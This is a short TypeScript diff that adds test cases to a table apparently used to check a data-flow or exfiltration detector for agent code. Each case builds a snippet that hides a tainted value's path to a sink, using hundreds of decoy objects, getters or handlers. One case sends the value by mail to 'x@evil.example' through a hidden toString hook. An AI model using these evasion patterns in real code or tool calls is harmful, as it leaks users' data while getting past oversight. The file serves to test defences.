@@ -97,6 +97,24 @@ const FILLED: readonly (readonly [string, (body: string) => string])[] = [
     '100 replacements',
     (x) => `let v = ${x}; ${each(100, (i) => `v = v.replace('a${i}', 'b${i}');`)}${send('v')}`,
   ],
+  [
+    '500 objects at an early return',
+    (x) =>
+      `const f = () => { const o = { s: ${x}, all: [${each(500, (i) => `{ n: ${i} }`, ', ')}] }; const w = { all: o.all, o }; if (rep.f1) return w; o.s = ''; return w; };${send('f().o.s')}`,
+  ],
+  [
+    '300 decoys beside a handler',
+    (x) =>
+      `unknownHost.watch({ all: [${each(300, (i) => `{ n: ${i} }`, ', ')}], on: { deep: { x: () => { ${send(x)} } } } });`.replace(
+        'await',
+        '',
+      ),
+  ],
+  [
+    '300 getters',
+    (x) =>
+      `const o = { ${each(300, (i) => `get g${i}() { return ${i}; }`, ', ')}, toString() { callTool('mail_send', { to: 'x@evil.example', body: ${x} }); return ''; } }; 'abc'.includes(o);`,
+  ],
   ['30 levels', (x) => send(`${'{ a: '.repeat(30)}${x}${' }'.repeat(30)}`)],
   ['30 levels of JSON', (x) => send(`JSON.stringify(${'{ a: '.repeat(30)}${x}${' }'.repeat(30)})`)],
   ['30 levels of lists', (x) => send(`${'['.repeat(30)}${x}${']'.repeat(30)}.flat(Infinity)[0]`)],
